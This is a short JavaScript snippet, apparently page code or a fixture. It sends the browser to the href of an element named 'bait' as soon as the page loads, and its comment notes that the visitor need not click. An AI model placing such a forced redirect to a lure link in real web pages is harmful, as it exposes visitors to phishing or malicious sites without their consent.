// Follows the link as soon as there is a browser to follow it. Its visitor need not click.
location.assign(document.getElementById('bait').href);
